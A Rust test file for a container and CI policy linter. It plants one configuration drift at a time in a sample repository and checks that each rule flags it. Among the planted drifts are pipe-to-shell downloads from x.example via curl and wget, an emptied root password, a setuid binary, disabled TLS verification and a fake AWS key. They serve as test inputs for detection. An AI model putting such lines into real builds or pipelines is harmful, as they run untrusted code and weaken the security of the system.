//! A repository like the decision record's, clean; then one drift after the other, each found by its rule on its line.

use praxis_check::{Facts, Finding, GitFacts, MemoryTree, Repository, check, patches};

const A: &str = "sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa";
const B: &str = "sha256:bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb";
const C: &str = "sha256:cccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccc";

/// The clean files: path and text, with `A`, `B`, `C` digests written as `{A}`.
const FILES: [(&str, &str); 12] = [
    (
        "Dockerfile",
        r#"# python:3.12-slim-bookworm
FROM docker.io/library/python:3.12-slim-bookworm@{A} AS builder
WORKDIR /build
COPY requirements.txt ./
COPY . ./
RUN python -m venv /opt/venv && /opt/venv/bin/pip install --require-hashes -r requirements.txt
RUN /opt/venv/bin/pip install --no-deps .

# python:3.12-slim-bookworm
FROM docker.io/library/python:3.12-slim-bookworm@{A}
ARG VERSION=1.2.0
RUN groupadd --system --gid 10001 praxis && useradd --system --uid 10001 --gid 10001 --shell /usr/sbin/nologin praxis
COPY --from=builder /opt/venv /opt/venv
ENV PATH=/opt/venv/bin:/usr/local/bin:/usr/bin:/bin PYTHONUNBUFFERED=1
LABEL org.opencontainers.image.version="${VERSION}" \
      org.opencontainers.image.base.name="docker.io/library/python:3.12-slim-bookworm" \
      org.opencontainers.image.base.digest="{A}" \
      io.praxis.governance="docs/adr/0032-container-image.md ADR-0032 BL-033"
WORKDIR /srv
USER 10001:10001
ENTRYPOINT ["python", "-m", "praxis"]
"#,
    ),
    (
        "praxis.toml",
        r#"preset = "adr-0032"
[image]
name = "ghcr.io/example/praxis"
user = "10001:10001"
artefacts = ["/opt/venv"]
transport = "stdio"
[bases]
allow = ["docker.io/library/python", "docker.io/docker/dockerfile"]
countries = ["DE", "US"]
origins."docker.io" = { country = "US", operator = "Docker" }
[extras.tsa]
packages = ["rfc3161-client"]
settings = ["tsa.enabled"]
[deploy]
released = "{C}"
production = ["deploy/values-production.yaml"]
[[premises]]
record = "docs/adr/0032-container-image.md"
says = "distroless has Python 3.11"
until = "2027-06-30"
"#,
    ),
    (".dockerignore", ".git\n.env\n"),
    (".env", "TOKEN=x\n"),
    (
        "pyproject.toml",
        "[project]\nname = \"praxis\"\nversion = \"1.2.0\"\n",
    ),
    (
        "docs/adr/0032-container-image.md",
        "# 32. The image\n\n## Status\n\nAccepted\n",
    ),
    (
        "docs/BACKLOG.md",
        "- [ ] BL-033: publish the digest\n- [x] BL-092: a Dockerfile\n",
    ),
    (
        "deploy/helm/praxis/values.yaml",
        r#"image:
  repository: ghcr.io/example/praxis
  digest: "{C}"
securityContext:
  runAsUser: 10001
tsa:
  enabled: false
"#,
    ),
    (
        "deploy/values-production.yaml",
        "sidecar:\n  image: docker.io/library/caddy:2@{B}\n",
    ),
    (
        "deploy/helm/praxis/Chart.yaml",
        "name: praxis\nversion: 0.3.0\nappVersion: \"1.2.0\"\n",
    ),
    (
        "deploy/zarf.yaml",
        r#"kind: ZarfPackageConfig
metadata:
  name: praxis
  version: 1.2.0
components:
  - name: praxis
    images:
      - ghcr.io/example/praxis@{C}
"#,
    ),
    (
        ".github/workflows/image.yml",
        r#"on: [push, pull_request]
permissions:
  contents: read
jobs:
  image:
    runs-on: ubuntu-24.04
    steps:
      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2
      - run: docker build -t praxis .
      - run: test "$(docker run --rm --network none --read-only praxis id -u)" = 10001
"#,
    ),
];

const RELEASE: &str = r#"on:
  push:
    tags: ["v*"]
permissions:
  contents: read
jobs:
  release:
    if: github.repository == 'example/praxis'
    runs-on: ubuntu-24.04
    permissions:
      packages: write
      id-token: write
    steps:
      - run: praxis build --output type=oci,dest=app.tar .
      - run: skopeo copy oci-archive:app.tar docker://ghcr.io/example/praxis:1.2.0
      - run: cosign verify --key key.pub "$IMAGE@$DIGEST"
      - run: yq -i '.image.digest = strenv(DIGEST)' deploy/helm/praxis/values.yaml
"#;

/// One drift: the rule that finds it, the file, what is replaced by what, and a part of the line it is shown on.
struct Plant {
    rule: &'static str,
    path: &'static str,
    from: &'static str,
    to: &'static str,
    line: &'static str,
    /// Whether a safe fix makes the clean file of it again.
    mended: bool,
}

fn plant(
    rule: &'static str,
    path: &'static str,
    from: &'static str,
    to: &'static str,
    line: &'static str,
) -> Plant {
    Plant {
        rule,
        path,
        from,
        to,
        line,
        mended: false,
    }
}

/// A line more in the final stage.
fn added(rule: &'static str, to: &'static str, line: &'static str) -> Plant {
    plant(rule, D, "ARG VERSION=1.2.0", to, line)
}

fn mended(plant: Plant) -> Plant {
    Plant {
        mended: true,
        ..plant
    }
}

const D: &str = "Dockerfile";
const VALUES: &str = "deploy/helm/praxis/values.yaml";
const IMAGE: &str = ".github/workflows/image.yml";
const RELEASED: &str = ".github/workflows/release.yml";
const FIRST: &str = "python:3.12-slim-bookworm@{A} AS builder";

fn base_plants() -> Vec<Plant> {
    let mount = "RUN --mount=from=docker.io/library/python:3.12,target=/m true\nRUN /opt/venv/bin/pip install --no-deps";
    vec![
        plant(
            "PX101",
            D,
            FIRST,
            "python:3.12-slim-bookworm AS builder",
            "AS builder",
        ),
        plant(
            "PX101",
            D,
            "COPY --from=builder /opt/venv /opt/venv",
            "COPY --from=builder /opt/venv /opt/venv\nCOPY --from=docker.io/library/python:3.12 /etc/ssl /etc/ssl",
            "--from=docker.io",
        ),
        plant(
            "PX101",
            D,
            "RUN /opt/venv/bin/pip install --no-deps",
            mount,
            "--mount=from=",
        ),
        mended(plant(
            "PX102",
            D,
            "# python:3.12-slim-bookworm\nFROM docker.io/library/python:3.12-slim-bookworm@{A} AS",
            "# python:3.11-slim-bookworm\nFROM docker.io/library/python:3.12-slim-bookworm@{A} AS",
            "# python:3.11",
        )),
        plant(
            "PX103",
            D,
            FIRST,
            "python:3.12-slim-bookworm@{B} AS builder",
            "@{A}",
        ),
        mended(plant(
            "PX104",
            D,
            "base.digest=\"{A}\"",
            "base.digest=\"{B}\"",
            "base.digest",
        )),
        mended(plant(
            "PX105",
            D,
            "base.name=\"docker.io/library/python:3.12-slim-bookworm\"",
            "base.name=\"python:3.12-slim-bookworm\"",
            "base.name",
        )),
        mended(plant(
            "PX105",
            D,
            "base.name=\"docker.io/library/python:3.12-slim-bookworm\"",
            "base.name=\"builder\"",
            "base.name",
        )),
        plant(
            "PX108",
            "praxis.toml",
            "countries = [\"DE\", \"US\"]",
            "countries = [\"DE\"]",
            "FROM",
        ),
        plant(
            "PX108",
            "praxis.toml",
            "library/python\"",
            "library/debian\"",
            "FROM",
        ),
        plant(
            "PX109",
            D,
            "# python:3.12-slim-bookworm\nFROM docker.io/library/python:3.12-slim-bookworm@{A} AS",
            "# syntax=docker/dockerfile:1\n# python:3.12-slim-bookworm\n\
             FROM docker.io/library/python:3.12-slim-bookworm@{A} AS",
            "# syntax",
        ),
        plant("PX110", "praxis.toml", "2027-06-30", "2026-06-30", "until"),
    ]
}

fn stage_plants() -> Vec<Plant> {
    vec![
        plant(
            "PX201",
            D,
            "# python:3.12-slim-bookworm\nFROM docker.io/library/python:3.12-slim-bookworm@{A}\nARG",
            "FROM builder\nARG",
            "FROM builder",
        ),
        plant(
            "PX202",
            D,
            "ARG VERSION=1.2.0",
            "RUN apt-get install -y gcc && rm -rf /var/lib/apt/lists/*\nARG VERSION=1.2.0",
            "gcc",
        ),
        plant(
            "PX202",
            D,
            "ARG VERSION=1.2.0",
            "RUN apt-get install -y libpq-dev && rm -rf /var/lib/apt/lists/*\nARG VERSION=1.2.0",
            "libpq-dev",
        ),
        plant(
            "PX203",
            D,
            "--from=builder /opt/venv /opt/venv",
            "--from=builder /opt /opt",
            "/opt /opt",
        ),
        plant(
            "PX203",
            D,
            "--from=builder /opt/venv /opt/venv",
            "--from=0 /opt/venv/../x /opt/venv",
            "--from=0",
        ),
        plant(
            "PX204",
            D,
            "install --require-hashes -r",
            "install -r",
            "-r requirements.txt",
        ),
        plant(
            "PX204",
            D,
            "ARG VERSION=1.2.0",
            "RUN npm install\nARG VERSION=1.2.0",
            "npm install",
        ),
        plant(
            "PX205",
            D,
            "install --no-deps .",
            "install --no-deps .[tsa]",
            ".[tsa]",
        ),
        plant(
            "PX205",
            D,
            "ARG VERSION=1.2.0",
            "RUN pip install --no-deps rfc3161-client==1\nARG VERSION=1.2.0",
            "rfc3161",
        ),
        plant(
            "PX206",
            "praxis.toml",
            "[deploy]",
            "[variants.tsa]\nstage = \"runtime-tsa\"\n[deploy]",
            "variants.tsa",
        ),
        plant(
            "PX207",
            ".dockerignore",
            ".env
",
            "",
            "COPY . ./",
        ),
    ]
}

fn user_plants() -> Vec<Plant> {
    vec![
        plant("PX301", D, "USER 10001:10001", "USER praxis", "USER praxis"),
        plant("PX301", D, "USER 10001:10001\n", "", "FROM"),
        plant("PX301", D, "USER 10001:10001", "USER 10002:10001", "USER 10002"),
        mended(plant(
            "PX302",
            D,
            "--shell /usr/sbin/nologin",
            "--shell /bin/bash",
            "/bin/bash",
        )),
        plant(
            "PX303",
            D,
            "ARG VERSION=1.2.0",
            "RUN passwd -d root\nARG VERSION=1.2.0",
            "passwd -d",
        ),
        plant(
            "PX304",
            D,
            "ARG VERSION=1.2.0",
            "RUN chmod u+s /bin/x\nARG VERSION=1.2.0",
            "u+s",
        ),
        plant(
            "PX304",
            D,
            "COPY --from=builder",
            "COPY --chmod=4755 --from=builder",
            "4755",
        ),
        plant(
            "PX305",
            D,
            "COPY --from=builder",
            "COPY --chown=10001:10001 --from=builder",
            "--chown",
        ),
        plant(
            "PX307",
            VALUES,
            "runAsUser: 10001",
            "runAsUser: 1000",
            "runAsUser",
        ),
    ]
}

fn label_plants() -> Vec<Plant> {
    vec![
        plant(
            "PX401",
            D,
            "LABEL org.opencontainers.image.version=\"${VERSION}\" \\\n     ",
            "LABEL",
            "FROM",
        ),
        plant(
            "PX402",
            IMAGE,
            "docker build -t",
            "docker build --label io.praxis.governance=x -t",
            "docker build",
        ),
        plant("PX403", D, "ADR-0032", "ADR-0099", "io.praxis.governance"),
        plant("PX403", D, "BL-033\"", "BL-999\"", "io.praxis.governance"),
        plant(
            "PX403",
            "docs/adr/0032-container-image.md",
            "Accepted",
            "Superseded by 40",
            "io.praxis.governance",
        ),
        plant(
            "PX404",
            D,
            "ARG VERSION=1.2.0",
            "LABEL org.opencontainers.image.revision=\"1111\"\nARG VERSION=1.2.0",
            "revision",
        ),
        plant(
            "PX404",
            D,
            "version=\"${VERSION}\"",
            "version=\"1.1.0\"",
            "version=",
        ),
        plant(
            "PX405",
            D,
            "ARG VERSION=1.2.0",
            "# not implemented until BL-092\nARG VERSION=1.2.0",
            "BL-092",
        ),
        plant(
            "PX406",
            RELEASED,
            "praxis build --output type=oci,dest=app.tar .",
            "docker buildx build --push -t x .",
            "--push",
        ),
    ]
}

fn deploy_plants() -> Vec<Plant> {
    vec![
        plant("PX501", "praxis.toml", "{C}", "{B}", "digest"),
        plant("PX502", "deploy/zarf.yaml", "{C}", "{B}", "ghcr.io"),
        plant(
            "PX503",
            "deploy/zarf.yaml",
            "praxis@{C}",
            "praxis:1.2.0",
            "ghcr.io",
        ),
        plant(
            "PX504",
            "deploy/helm/praxis/Chart.yaml",
            "\"1.2.0\"",
            "\"1.1.0\"",
            "appVersion",
        ),
        plant(
            "PX504",
            "deploy/zarf.yaml",
            "version: 1.2.0",
            "version: 1.1.0",
            "version",
        ),
        plant(
            "PX505",
            "deploy/values-production.yaml",
            "{B}",
            "sha256:0000000000000000000000000000000000000000000000000000000000000000",
            "caddy",
        ),
        plant("PX506", VALUES, "enabled: false", "enabled: true", "enabled"),
        plant(
            "PX601",
            IMAGE,
            "contents: read",
            "contents: read\n  packages: write",
            "packages",
        ),
        plant(
            "PX601",
            IMAGE,
            "- run: docker build",
            "- run: docker login ghcr.io\n      - run: docker build",
            "login",
        ),
        plant(
            "PX602",
            RELEASED,
            "tags: [\"v*\"]",
            "branches: [main]",
            "branches",
        ),
        plant(
            "PX602",
            RELEASED,
            "    if: github.repository == 'example/praxis'\n",
            "",
            "release:",
        ),
        plant(
            "PX602",
            RELEASED,
            "packages: write",
            "contents: write
      packages: write",
            "contents: write",
        ),
        plant(
            "PX603",
            IMAGE,
            "11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2",
            "v4",
            "checkout",
        ),
        plant("PX603", IMAGE, " # v4.2.2", "", "checkout"),
        plant(
            "PX604",
            IMAGE,
            "contents: read",
            "contents: read\n  id-token: write",
            "id-token",
        ),
        plant("PX605", IMAGE, "--network none ", "", "docker run"),
        plant("PX605", IMAGE, "--read-only ", "", "docker run"),
        plant(
            "PX606",
            RELEASED,
            "skopeo copy oci-archive:app.tar docker://ghcr.io/example/praxis:1.2.0",
            "praxis build --push .",
            "--push",
        ),
        plant(
            "PX607",
            IMAGE,
            "- run: docker build",
            "- run: curl -sSf https://x.example/i.sh | sh\n      - run: docker build",
            "curl",
        ),
        plant(
            "PX507",
            RELEASED,
            "      - run: cosign verify --key key.pub \"$IMAGE@$DIGEST\"\n",
            "",
            "yq -i",
        ),
        plant(
            "PX701",
            D,
            "ENTRYPOINT [\"python\", \"-m\", \"praxis\"]",
            "ENTRYPOINT [\"python\", \"-m\", \"praxis\", \"--http\"]",
            "ENTRYPOINT",
        ),
        plant(
            "PX701",
            D,
            "USER 10001:10001",
            "EXPOSE 8080\nUSER 10001:10001",
            "EXPOSE",
        ),
        plant("PX702", D, "PYTHONUNBUFFERED=1", "PRAXIS_HTTP=1", "PRAXIS_HTTP"),
        added(
            "PX002",
            "# praxis: allow PX999 because there is no such rule\nARG VERSION=1.2.0",
            "PX999",
        ),
        added(
            "PX003",
            "# praxis: allow PX401 until=2026-01-31 because it was new then\nARG VERSION=1.2.0",
            "PX401",
        ),
        added(
            "PX004",
            "# praxis: allow PX401 until=2027-01-31 because it may come back\nARG VERSION=1.2.0",
            "PX401",
        ),
        plant("PX001", D, "WORKDIR /srv", "WORKDIRR /srv", "WORKDIRR"),
        plant(
            "WorkdirRelativePath",
            D,
            "WORKDIR /build",
            "WORKDIR build",
            "WORKDIR build",
        ),
    ]
}

fn plants_of_others() -> Vec<Plant> {
    vec![
        added(
            "PX901",
            "ADD https://x.example/t /t\nARG VERSION=1.2.0",
            "ADD https",
        ),
        added(
            "PX901",
            "RUN wget -qO- https://x.example/i | sh\nARG VERSION=1.2.0",
            "wget",
        ),
        added(
            "PX902",
            "RUN git -c http.sslVerify=false clone x\nARG VERSION=1.2.0",
            "sslVerify",
        ),
        added(
            "PX902",
            "ENV NODE_TLS_REJECT_UNAUTHORIZED=0\nARG VERSION=1.2.0",
            "NODE_TLS",
        ),
        added("PX903", "LABEL x=AKIAABCDEFGHIJKLMNOP\nARG VERSION=1.2.0", "AKIA"),
        added(
            "PX904",
            "ADD app.conf /etc/app.conf\nARG VERSION=1.2.0",
            "ADD app.conf",
        ),
        added(
            "PX905",
            "RUN apk add ca-certificates\nARG VERSION=1.2.0",
            "apk add",
        ),
        added(
            "PX906",
            "HEALTHCHECK CMD [\"a\"]\nARG VERSION=1.2.0",
            "HEALTHCHECK",
        ),
    ]
}

fn digests(text: &str) -> String {
    text.replace("{A}", A).replace("{B}", B).replace("{C}", C)
}

fn tree(drift: Option<&Plant>) -> MemoryTree {
    let files = FILES.into_iter().chain([(RELEASED, RELEASE)]);
    files.fold(MemoryTree::default(), |tree, (path, text)| {
        let text = match drift.filter(|drift| drift.path == path) {
            Some(drift) => {
                assert!(
                    text.contains(drift.from),
                    "{}: {:?} is not in {path}",
                    drift.rule,
                    drift.from
                );
                text.replacen(drift.from, drift.to, 1)
            }
            None => text.to_string(),
        };
        tree.with(path, &digests(&text))
    })
}

fn look(tree: &MemoryTree) -> (Repository, Vec<Finding>) {
    let facts = Facts {
        today: "2026-11-25".into(),
        git: Some(GitFacts {
            revision: "2222".into(),
            source: None,
        }),
    };
    let repository = Repository::read(tree, facts).unwrap();
    let findings = check(&repository).unwrap();
    (repository, findings)
}

#[test]
fn the_repository_without_drift_is_clean() {
    assert_eq!(look(&tree(None)).1, []);
}

#[test]
fn every_drift_is_found_by_its_rule_on_its_line() {
    let groups = [
        base_plants(),
        stage_plants(),
        user_plants(),
        label_plants(),
        plants_of_others(),
        deploy_plants(),
    ];
    let plants: Vec<Plant> = groups.into_iter().flatten().collect();
    assert!(plants.len() >= 40, "{}", plants.len());
    let mut wrong = Vec::new();
    for plant in &plants {
        let (repository, findings) = look(&tree(Some(plant)));
        let line = |finding: &Finding| {
            let file = repository.file(&finding.path)?;
            Some(file.line(file.position(finding.span?.start).line).to_string())
        };
        let expected = digests(plant.line);
        let right = findings
            .iter()
            .any(|one| line(one).is_some_and(|line| line.contains(&expected)));
        let others: Vec<_> = findings
            .iter()
            .filter(|finding| finding.rule != plant.rule)
            .collect();
        if !right || !others.is_empty() {
            let shown: Vec<String> = findings
                .iter()
                .map(|one| format!("{} {}", one.rule, one.message))
                .collect();
            wrong.push(format!(
                "{} {:?} → {:?}: {shown:?}",
                plant.rule, plant.from, plant.to
            ));
        }
        if plant.mended {
            let patches = patches(&repository, &findings, false).unwrap();
            let clean = tree(None);
            let same = patches.len() == 1 && {
                let patch = &patches[0];
                praxis_check::FileTree::read(&clean, &patch.path).unwrap() == patch.new
            };
            if !same {
                wrong.push(format!("{}: --fix does not give the clean file", plant.rule));
            }
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

/// A digest in values that is no release differs from the package too; the safe fix mends both findings.
#[test]
fn a_digest_that_is_no_release_is_mended() {
    let drift = plant("PX501", VALUES, "{C}", "{B}", "digest");
    let (repository, findings) = look(&tree(Some(&drift)));
    let rules: Vec<&str> = findings.iter().map(|finding| finding.rule.as_str()).collect();
    assert_eq!(rules, ["PX501", "PX502"], "{findings:?}");
    let patches = patches(&repository, &findings, false).unwrap();
    let clean = praxis_check::FileTree::read(&tree(None), VALUES).unwrap();
    assert_eq!(patches.len(), 1);
    assert_eq!((patches[0].path.as_str(), &patches[0].new), (VALUES, &clean));
}
